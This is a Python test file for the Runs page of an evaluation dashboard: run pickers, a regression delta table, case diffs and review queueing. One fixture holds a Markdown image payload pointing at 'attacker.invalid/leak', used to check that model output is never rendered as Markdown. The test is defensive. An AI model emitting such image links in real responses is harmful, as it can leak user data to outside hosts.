"""The Runs page through AppTest: run pickers, the Δ table against ``compare``, the case diff, send to review."""

from __future__ import annotations

from pathlib import Path

import pytest
from dashboard_helpers import PASSWORDS, run_pair
from streamlit.testing.v1 import AppTest

from experiments.baseline import compare
from experiments.record import GateResult, RunRecord, write_run
from review import ReviewStore
from review.run_diff import list_runs

APP = str(Path(__file__).resolve().parents[2] / "dashboard" / "app.py")
SEND = "runs_send:qa:geval:Correctness:q-drop"


@pytest.fixture
def results(app_env: dict[str, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "results"
    base, new = _with_verdict_and_probs(*run_pair())
    write_run(base, folder / "run-base.json")
    write_run(new, folder / "run-new.json")
    write_run(new, folder / "latest.json")  # the plugin's copy of the newest run: listed once
    monkeypatch.setenv("EVALHARNESS_RESULTS", str(folder))
    return folder


def _with_verdict_and_probs(base: RunRecord, new: RunRecord) -> tuple[RunRecord, RunRecord]:
    """The new run's suite failed its gate; its regressed case's judge score carries a label, its
    probabilities and a flag."""
    qa = new.suites[0]
    drop = qa.cases[0]
    judged = drop.scores[0].model_copy(update={"label": "1", "label_probs": {" 1": 0.7, " 4": 0.3},
                                               "prob_source": "logprobs", "flags": ["low_confidence"]})
    drop = drop.model_copy(update={"scores": [judged, *drop.scores[1:]]})
    summary = qa.summary.model_copy(update={"gate": GateResult(passed=False, reason="significant regression")})
    qa = qa.model_copy(update={"cases": [drop, *qa.cases[1:]], "summary": summary})
    return base, new.model_copy(update={"suites": [qa, *new.suites[1:]]})


def _runs_page(name: str = "bob") -> AppTest:
    at = AppTest.from_file(APP, default_timeout=60).run()
    at.text_input(key="login_name").input(name)
    at.text_input(key="login_password").input(PASSWORDS[name])
    at.button(key="login_submit").click().run()
    at.switch_page("views/runs.py").run()
    assert not at.exception, at.exception
    return at


def _case_headers(at: AppTest) -> list[str]:
    return [t.value for t in at.text if t.value.startswith("case ")]


def test_lists_runs_newest_first_without_the_latest_copy(results: Path) -> None:
    runs, problems = list_runs(results)
    assert [r.run.run_id for r in runs] == ["run-new", "run-base"]
    assert problems == []
    # the picker leads with the verdict and the time: two runs of one commit still look different
    assert runs[0].label == "FAIL · 2025-01-02 10:00:00 · feature · f6e5d4c · run-new"
    assert runs[1].label == "no gate · 2025-01-01 10:00:00 · main · a1b2c3d · run-base"


def test_delta_table_matches_compare(results: Path) -> None:
    at = _runs_page()
    assert [t.value for t in at.title] == ["Runs"]
    assert at.selectbox(key="runs_new").value == str(results / "run-new.json")
    assert at.selectbox(key="runs_base").value == str(results / "run-base.json")
    assert "no gate · 2025-01-01 10:00:00 · main · a1b2c3d · run-base" in at.selectbox(key="runs_base").options

    base, new = _with_verdict_and_probs(*run_pair())
    table = at.dataframe[0].value
    assert list(table["suite"]) == ["qa", "qa"]  # "extra" is only in the new run
    assert list(table["scorer"]) == ["geval:Correctness", "token_f1"]
    assert list(table["gate"]) == ["gates", ""]  # the gate's scorer: the suite's first
    # few columns, so the table fits a 1280 px window
    assert len(table.columns) <= 11
    for row, info in zip(table.to_dict("records"), new.suites[0].scorers, strict=True):
        # The page compares with the new suite's gate settings (max_drop 0.5), as the eval run does.
        c = compare(new.suites[0].cases, base.suites[0], info, run_id="run-base", source="x", max_drop=0.5)
        assert row["paired"] == c.n_paired == 3
        assert row["baseline"] == pytest.approx(c.baseline_mean)
        assert row["new"] == pytest.approx(c.mean)
        assert row["Δ"] == pytest.approx(c.mean_diff)
        assert row["Δ 95% CI"] == f"[{c.low:+.3f}, {c.high:+.3f}]"
        assert row["p (drop)"] == pytest.approx(c.pvalue)
        assert row["moved"] == f"{c.improved} / {c.regressed} / {c.unchanged}"
        assert row["added / removed"] == f"{len(c.added)} / 0" == "1 / 0"
    geval = table.iloc[0]
    assert geval["Δ"] == pytest.approx(-1 / 3)
    assert geval["moved"] == "1 / 1 / 1"
    text = "\n".join(t.value for t in at.text)
    assert "only in new run: extra" in text and "cases added: q-new" in text


def test_cases_regressions_first_and_filter(results: Path) -> None:
    at = _runs_page()
    assert _case_headers(at) == [
        "case q-drop · regressed · Δ -3.00",
        "case q-same · unchanged · Δ +0.00",
        "case q-gain · improved · Δ +2.00",
    ]
    # Model output is plain text, never Markdown (an image URL there would be fetched by the browser).
    leak = "![x](https://attacker.invalid/leak?q=1) new answer drop"
    assert leak in [t.value for t in at.text]
    assert not any("attacker.invalid" in m.value for m in at.markdown)
    assert any(t.value.startswith("score 4.00 (judge-m)\nreasoning for old answer drop") for t in at.text)
    assert [b.key for b in at.button if b.key.startswith("runs_send:")] == [SEND]  # only regressed cases
    texts = [t.value for t in at.text]
    assert "reference q-drop" in texts  # the reference answer beside the input
    judged = next(t for t in texts if t.startswith("score 1.00 (judge-m)"))
    assert "label: 1\nlabel probabilities (logprobs): 1: 0.70, 4: 0.30\nflags: low_confidence" in judged
    assert "reasoning for ![x]" in judged
    assert not any(t.startswith("trace: none") for t in texts)  # an untraced case shows no trace line
    assert "trace: " + "b" * 32 in texts
    assert at.selectbox(key="runs_scorer").options == ["geval:Correctness (gates)", "token_f1"]

    at.radio(key="runs_status").set_value("improved").run()
    assert _case_headers(at) == ["case q-gain · improved · Δ +2.00"]
    at.radio(key="runs_status").set_value("unchanged").run()
    assert _case_headers(at) == ["case q-same · unchanged · Δ +0.00"]

    # The other scorer has its own scale, so its own margin (0.05): q-gain's +0.04 is unchanged there.
    at.radio(key="runs_status").set_value("all").run()
    at.selectbox(key="runs_scorer").select("token_f1").run()
    assert _case_headers(at) == [
        "case q-drop · regressed · Δ -0.50",
        "case q-same · unchanged · Δ +0.00",
        "case q-gain · unchanged · Δ +0.04",
    ]


def test_send_to_review_queues_once(results: Path, app_env: dict[str, Path]) -> None:
    store = ReviewStore(app_env["db"])
    before = store.count_items()
    at = _runs_page()
    at.button(key=SEND).click().run()
    assert not at.exception
    assert [s.value for s in at.success] == ["queued for review (escalation)"]
    assert store.count_items() == before + 1
    item = store.get_item(before + 1)
    assert (item.queue, item.source_id) == ("escalation", "run:run-new:qa:q-drop:geval:Correctness")
    assert (item.criterion, item.suite, item.scale, item.judge_score) == ("Correctness", "qa", (1, 5), 1.0)
    assert item.output == "![x](https://attacker.invalid/leak?q=1) new answer drop"
    assert (item.input, item.expected) == ("question q-drop", "reference q-drop")
    assert item.reason == "regressed vs run-base: 4.00 -> 1.00"
    assert (item.trace_id, item.span_id) == ("b" * 32, "0123456789abcdef")
    assert item.meta["baseline_output"] == "old answer drop"
    assert [j.reasoning for j in item.judges] == ["reasoning for " + item.output]

    at.button(key=SEND).click().run()
    assert [i.value for i in at.info] == ["already queued"]
    assert store.count_items() == before + 1
    store.close()


def test_unreadable_file_is_a_warning(results: Path) -> None:
    (results / "broken.json").write_text('{"run_id": "half', encoding="utf-8")
    (results / "old.json").write_text('{"schema_version": 1, "run_id": "r"}', encoding="utf-8")
    at = _runs_page("alice")  # admins see the page too
    assert [w.value for w in at.warning] == [
        "2 file(s) in the results folder could not be read; they are not listed."
    ]
    text = "\n".join(t.value for t in at.text)
    assert "broken.json is not JSON" in text and "old.json has schema version 1" in text
    assert len(at.dataframe[0].value) == 2  # the readable runs are still compared
    assert len(at.selectbox(key="runs_new").options) == 2


def test_fewer_than_two_runs(
    tmp_path: Path, app_env: dict[str, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("EVALHARNESS_RESULTS", str(tmp_path / "nothing-here"))
    at = _runs_page()
    assert any(i.value.startswith("Two runs are needed") for i in at.info)
    assert not at.dataframe
